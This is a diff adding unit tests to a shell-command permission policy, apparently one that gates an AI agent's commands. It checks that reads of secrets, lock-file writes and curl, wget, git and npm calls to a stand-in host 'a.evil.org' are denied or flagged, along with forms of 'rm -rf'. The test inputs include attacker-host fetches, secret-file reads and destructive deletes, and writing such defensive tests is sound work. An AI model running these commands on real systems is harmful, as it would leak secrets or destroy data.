@@ -235,6 +235,40 @@ describe("rules about commands", () => {
     expect(decisionOf(bash("cat npm.lock"), reading)).toBe("allow");
     expect(decisionOf(bash("echo secrets/key"), reading)).toBe("allow");
   });
+
+  const limits = { allow: ["bash"], deny: ["read(secrets)", "write(*.lock)", "network(*.evil.org)"] };
+
+  it("asks where an argument is computed, or a program may write what it is given", () => {
+    for (const source of ["cat s*/key", "cat $(echo secrets/key)", "sort npm.lock", "curl -o npm.lock x"]) {
+      for (const options of [{ enforced: true }, { profile: "full" as const }])
+        expect([source, decisionOf(bash(source), { ...options, rules: limits })]).toEqual([source, "ask"]);
+    }
+    const plain = bash("cat npm.lock; git add npm.lock; echo s*");
+    expect(decisionOf(plain, { rules: limits, enforced: true })).toBe("allow");
+    expect(decisionOf(bash("curl file:///work%20space/app/secrets/key"), { rules: limits })).toBe("deny");
+  });
+
+  it("sees hosts that arguments name", () => {
+    for (const source of [
+      "curl https://a.evil.org/x",
+      "git clone https://u:p@a.evil.org:8443/x",
+      "git push git@a.evil.org:x/y main",
+      "wget a.evil.org/x",
+      "npm install --registry=http://a.evil.org",
+    ])
+      expect([source, decisionOf(bash(source), { rules: limits })]).toEqual([source, "deny"]);
+    expect(decisionOf(bash("curl https://example.org/a.evil.org"), { rules: limits })).toBe("allow");
+  });
+
+  it.each([
+    ["rm --recursive --force x", "bash(rm -rf *)"],
+    ["rm -Rf x", "bash(rm -rf *)"],
+    ["rm -r x --force", "bash(rm -rf *)"],
+    ["curl --insecure x", "bash(curl -i *)"],
+    ["npm publ", "bash(npm publish *)"],
+  ])("asks about %s where %s is forbidden", (source, rule) => {
+    expect(decisionOf(bash(source), { profile: "full", rules: { deny: [rule] } })).toBe("ask");
+  });
 });
 
 describe("the whole call", () => {
@@ -284,7 +318,10 @@ describe("the whole call", () => {
       ],
     });
     expect(policy.explain(bash("git $x"))).toMatchObject({
-      effects: [{ considered: [{ rule: "bash(git push *)", verdict: "deny", match: "maybe" }] }],
+      effects: [
+        { considered: [{ rule: "bash(git push *)", verdict: "deny", match: "maybe" }] },
+        { effect: "running what cannot be read: the argument $x is computed", decision: "ask" },
+      ],
     });
   });
 });
